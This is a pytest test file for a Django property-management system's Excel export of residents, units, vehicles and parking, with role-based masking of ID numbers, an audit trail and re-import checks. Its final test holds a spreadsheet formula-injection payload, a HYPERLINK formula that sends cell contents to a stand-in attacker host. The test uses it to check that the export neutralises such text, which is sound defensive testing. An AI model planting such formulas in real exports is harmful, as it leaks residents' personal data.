"""Exporting the register to Excel: templates, filtered lists, and lists that re-import."""

from html import unescape
from io import BytesIO
from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from wuye.core import policy
from wuye.core.models import AuditEntry, Role
from wuye.estates.transfer.importers import register_import
from wuye.testing import factories as f
from wuye.testing.factories import valid_id_number

from .fixtures import (
    UNIT_HEADERS,
    good_register,
    register_state,
    xlsx,
)

KINDS = ["buildings", "units", "residents", "vehicles", "parking"]


def download(client, user, community, name: str, **params):
    client.force_login(user)
    if name == "export" and params.get("kind") == "residents":
        return export_residents(client, user, community, **params)
    response = client.get(reverse(f"estates:{name}", args=[community.pk]), params)
    return response


def export_residents(
    client, user, community, reason="Owners' list for the AGM", full=False, **params
):
    """Export residents through the form that asks why and whether full ID numbers are needed."""
    client.force_login(user)
    url = reverse("estates:export", args=[community.pk])
    query = urlencode({"kind": "residents", **{k: v for k, v in params.items() if k != "kind"}})
    data = {"reason": reason, **({"full_id_numbers": "on"} if full else {})}
    return client.post(f"{url}?{query}", data)


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(BytesIO(content)), content


def rows(ws) -> list[tuple]:
    return [tuple(r) for r in ws.iter_rows(values_only=True)]


def test_a_template_has_chinese_headers_a_frozen_header_and_a_sample(client, site):
    book, _ = workbook(download(client, site.manager, site.community, "template", kind="units"))

    assert book.sheetnames == ["房屋", "房屋(示例)"]
    sheet = book["房屋"]
    assert rows(sheet) == [tuple(UNIT_HEADERS)]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["D"].width == 10
    assert "Required" in sheet["A1"].comment.text
    assert "住宅、商铺、会所、办公" in sheet["G1"].comment.text
    assert any("住宅,商铺,会所,办公" in v.formula1 for v in sheet.data_validations.dataValidation)
    assert rows(book["房屋(示例)"])[1][:4] == ("1", "1", 1, "101")


def test_the_sample_rows_of_the_templates_import(client, site):
    book, _ = workbook(download(client, site.manager, site.community, "template", kind="all"))
    assert book.sheetnames[::2] == ["楼栋", "房屋", "住户", "车辆", "车位"]
    filled = {title: rows(book[f"{title}(示例)"]) for title in book.sheetnames[::2]}

    report = register_import(actor=site.manager, community=site.community, upload=xlsx(filled))

    assert report.ok, report.errors


@pytest.mark.parametrize("who", ["manager", "frontdesk"])
def test_an_export_reimports_unchanged(client, site, who):
    register_import(actor=site.manager, community=site.community, upload=xlsx(good_register()))
    before = register_state(site.community)

    for kind in KINDS:
        response = download(client, getattr(site, who), site.community, "export", kind=kind)
        _, content = workbook(response)
        upload = SimpleUploadedFile(f"{kind}.xlsx", content)
        report = register_import(actor=site.manager, community=site.community, upload=upload)
        assert report.ok, report.errors
        assert report.counts[kind].changed == 0
        assert report.counts[kind].unchanged > 0

    after = register_state(site.community)
    after["audit"] -= 1  # the residents' export, with its reason
    assert after == before


def test_an_export_has_the_templates_columns_in_chinese(client, site):
    book, _ = workbook(download(client, site.manager, site.community, "export", kind="units"))

    assert rows(book["房屋"])[0] == tuple(UNIT_HEADERS)
    assert rows(book["房屋"])[1] == ("1", "1", 1, "101", 98.5, 80.2, "住宅", "自住")


def test_an_export_follows_the_lists_filters(client, site):
    book, _ = workbook(
        download(client, site.manager, site.community, "export", kind="units", building="2")
    )

    assert [r[0] for r in rows(book["房屋"])[1:]] == ["2", "2"]


def test_a_list_filtered_by_its_own_kind_exports_with_that_filter(client, site):
    client.force_login(site.manager)
    url = reverse("estates:export", args=[site.community.pk])

    response = client.get(f"{url}?kind=visitor&kind=parking")

    book, _ = workbook(response)
    assert [r[:3] for r in rows(book["车位"])[1:]] == [("V-001", "B1", "访客")]


def test_id_numbers_are_masked_for_the_front_desk(client, site):
    response = export_residents(client, site.frontdesk, site.community, full=True)

    owner = next(r for r in rows(workbook(response)[0]["住户"]) if r[0] == "Wang Fang")
    assert owner[2] == "6505**********0014"
    assert not AuditEntry.objects.filter(action="resident.id_numbers_exported").exists()
    entry = AuditEntry.objects.get(action="resident.exported")
    assert (entry.actor, entry.changes["reason"]) == (site.frontdesk, "Owners' list for the AGM")


def test_a_manager_exports_masked_numbers_unless_full_ones_are_asked_for(client, site):
    response = export_residents(client, site.manager, site.community, q="Wang")

    assert rows(workbook(response)[0]["住户"])[1][2] == "6505**********0014"
    entry = AuditEntry.objects.get(action="resident.exported")
    assert entry.changes == {
        "reason": "Owners' list for the AGM",
        "rows": 1,
        "id_numbers": 0,
        "filters": {"q": "Wang"},
    }


def test_a_manager_exports_full_id_numbers_with_a_reason_and_that_is_audited(client, site):
    response = export_residents(
        client, site.manager, site.community, reason="公安局实有人口登记", full=True, q="Wang"
    )

    assert rows(workbook(response)[0]["住户"])[1][2] == valid_id_number(1)
    entry = AuditEntry.objects.get(action="resident.id_numbers_exported")
    assert entry.actor == site.manager
    assert entry.community == site.community
    assert entry.changes == {
        "reason": "公安局实有人口登记",
        "rows": 1,
        "id_numbers": 1,
        "filters": {"q": "Wang"},
    }


def test_the_residents_export_asks_why_before_any_file_is_made(client, site):
    client.force_login(site.manager)
    url = reverse("estates:export", args=[site.community.pk])

    page = client.get(url, {"kind": "residents", "building": "1"})
    refused = export_residents(client, site.manager, site.community, reason="  ", full=True)

    assert page.status_code == 200 and not page.streaming
    html = unescape(page.content.decode())
    assert 'name="reason"' in html and 'name="full_id_numbers"' in html
    assert "3 residents match the list's filters" in html
    assert refused.status_code == 422 and not refused.streaming
    assert "Say why you need the residents' list" in unescape(refused.content.decode())
    assert not AuditEntry.objects.filter(action__startswith="resident.").exists()


def test_the_front_desk_is_not_offered_full_numbers(client, site):
    client.force_login(site.frontdesk)
    url = reverse("estates:export", args=[site.community.pk])

    html = client.get(url, {"kind": "residents"}).content.decode()

    assert 'name="reason"' in html and "full_id_numbers" not in html
    assert "Only a manager or the customer-service supervisor" in html


def test_mobiles_are_masked_for_roles_that_do_not_call_residents(client, site, monkeypatch):
    monkeypatch.setitem(
        policy.PERMISSIONS, "resident.view_mobile", frozenset({Role.PROPERTY_MANAGER})
    )
    before = register_state(site.community)

    residents, content = workbook(
        download(client, site.frontdesk, site.community, "export", kind="residents")
    )
    vehicles, _ = workbook(
        download(client, site.frontdesk, site.community, "export", kind="vehicles")
    )

    owner = next(r for r in rows(residents["住户"]) if r[0] == "Wang Fang")
    assert owner[1] == "139****0001"
    assert rows(vehicles["车辆"])[1][:3] == ("新B12345", "Wang Fang", "139****0001")
    upload = SimpleUploadedFile("residents.xlsx", content)
    report = register_import(actor=site.manager, community=site.community, upload=upload)
    assert report.ok, report.errors
    assert report.counts["residents"].changed == 0
    after = register_state(site.community)
    after["audit"] -= 1  # the residents' export, with its reason
    assert after == before


@pytest.mark.parametrize("kind", KINDS)
def test_export_queries_do_not_grow_with_rows(client, site, kind):
    def queries() -> int:
        client.force_login(site.manager)
        with CaptureQueriesContext(connection) as captured:
            workbook(download(client, site.manager, site.community, "export", kind=kind))
        return len(captured)

    few = queries()
    building = f.BuildingFactory(community=site.community, number="9")
    for n in range(30):
        unit = f.UnitFactory(building=building, number=f"9{n:02d}")
        resident = f.ResidencyFactory(unit=unit).resident
        resident.set_id_number(valid_id_number(500 + n))
        resident.save()
        vehicle = f.VehicleFactory(community=site.community, resident=resident)
        f.ParkingSpaceFactory(community=site.community, unit=unit, vehicle=vehicle)
        f.BuildingFactory(community=site.community, number=f"X{n}")

    assert queries() == few


def test_an_unknown_kind_is_not_found(client, site):
    assert download(client, site.manager, site.community, "export", kind="bills").status_code == 404
    assert download(client, site.manager, site.community, "template").status_code == 404


LURE = '=HYPERLINK("http://evil.example/?"&B2&C2,"Click")'


def test_text_that_looks_like_a_formula_is_exported_as_text_and_reimports(client, site):
    owner = site.residents["owner"]
    owner.emergency_contact, owner.notes = LURE, "-5"
    owner.save()
    f.VehicleFactory(community=site.community, plate="新B54321", description="@SUM(1)")
    before = register_state(site.community)

    residents, content = workbook(export_residents(client, site.manager, site.community, full=True))
    vehicles, _ = workbook(
        download(client, site.manager, site.community, "export", kind="vehicles")
    )

    cells = [c for book in (residents, vehicles) for ws in book for row in ws for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    row = next(r for r in residents["住户"].iter_rows(min_row=2) if r[0].value == "Wang Fang")
    assert LURE in [c.value for c in row] and "-5" in [c.value for c in row]
    assert all(c.quotePrefix for c in row if c.value in (LURE, "-5"))
    assert ("新B54321", None, None, "@SUM(1)") in rows(vehicles["车辆"])
    upload = SimpleUploadedFile("residents.xlsx", content)
    report = register_import(actor=site.manager, community=site.community, upload=upload)
    assert report.ok, report.errors
    assert report.counts["residents"].changed == 0
    after = register_state(site.community)
    after["audit"] -= 1  # the residents' export, with its reason
    assert after == before
